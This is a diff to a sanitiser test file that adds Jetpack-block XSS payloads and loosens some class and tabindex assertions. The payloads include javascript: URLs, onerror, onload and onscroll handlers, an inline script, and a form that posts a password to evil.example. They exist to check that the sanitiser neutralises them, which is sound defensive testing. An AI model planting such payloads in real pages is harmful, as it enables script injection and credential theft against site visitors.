@@ -53,6 +53,12 @@ export const XSS_PAYLOADS = [
   '<div style="width:99999px;min-height:99999px">huge</div>',
   '<div style="@import url(https://evil.example/x.css);width:10px">import</div>',
   '<img src="x.png" alt="" style="position:absolute;top:0;left:0;width:100%">',
+  // Jetpack markup the policy draws from (tiled-gallery__* classes, slideshow strips, server blocks it rewrites).
+  '<div class="wp-block-jetpack-tiled-gallery"><div class="tiled-gallery__row" style="position:fixed;inset:0"><div class="tiled-gallery__col" style="flex-basis:50%"><figure class="tiled-gallery__item"><img src="x.png" alt="a" data-url="javascript:window.__xss(1)" data-width="1" data-height="1" role="button" tabindex="0" onload="window.__xss(1)"></figure></div></div></div>',
+  '<div class="wp-block-jetpack-slideshow"><ul class="wp-block-jetpack-slideshow_swiper-wrapper" onscroll="window.__xss(1)"><li><img src="x" onerror="window.__xss(1)"></li></ul><a class="wp-block-jetpack-slideshow_button-next" href="javascript:window.__xss(1)" role="button">next</a></div>',
+  '<div class="wp-block-jetpack-contact-form-container"><form action="https://evil.example"><input name="password"><button>Send</button></form><script>window.__xss(1)</script></div>',
+  '<div class="wp-block-jetpack-eu-cookie-law"><div role="dialog" aria-modal="true"><form><input type="submit" value="Accept"></form><a href="javascript:window.__xss(1)">policy</a></div></div>',
+  '<figure class="wp-block-jetpack-image-compare"><div class="juxtapose"><img src="javascript:window.__xss(1)"><img src="x" onerror="window.__xss(1)"></div></figure>',
 ];
 
 /** Titles (and author names) that try to leave their context: the build writes them into JSON-LD, meta tags and the feed. */
@@ -77,8 +83,12 @@ export function expectNeutralised(clean: string) {
     /(?<![-\w])position|z-index|inset|transform|filter|content|expression|behavior|binding|@import|!important|javascript|evil\.example|\\/,
   );
   expect(styles).not.toMatch(/url\((?!(?:"|&quot;)https:\/\/[a-z0-9.-]+\.(?:wp\.com|files\.wordpress\.com)\/)/);
-  // The only tabindex left is the one the policy puts on code blocks.
-  expect(lower.replace(/<pre([^>]*) tabindex="0"/g, '<pre$1')).not.toMatch(/\stabindex/);
+  // The only tabindex left is the one the policy puts on code blocks and slideshow strips (they scroll sideways).
+  expect(
+    lower
+      .replace(/<pre([^>]*) tabindex="0"/g, '<pre$1')
+      .replace(/(<ul class="wp-block-jetpack-slideshow_swiper-wrapper") tabindex="0"/g, '$1'),
+  ).not.toMatch(/\stabindex/);
   expect(lower).not.toMatch(/\sid="(?!user-content-)|\sname="(?!user-content-)/);
 
   const host = document.createElement('div');
@@ -92,7 +102,9 @@ export function expectNeutralised(clean: string) {
   }
   for (const element of Array.from(host.querySelectorAll('[class]'))) {
     for (const name of Array.from(element.classList))
-      expect(name).toMatch(/^(wp-|align|are-|size-|has-|is-|language-|gallery|blocks-gallery-|attachment-)/);
+      expect(name).toMatch(
+        /^(wp-|tiled-gallery__(gallery|row|col|item)$|align|are-|size-|has-|is-|language-|gallery|blocks-gallery-|attachment-)/,
+      );
   }
   for (const element of Array.from(host.querySelectorAll('[role]'))) {
     expect(['img', 'presentation', 'none', 'note', 'figure', 'group', 'list', 'listitem', 'separator', 'term', 'definition']).toContain(
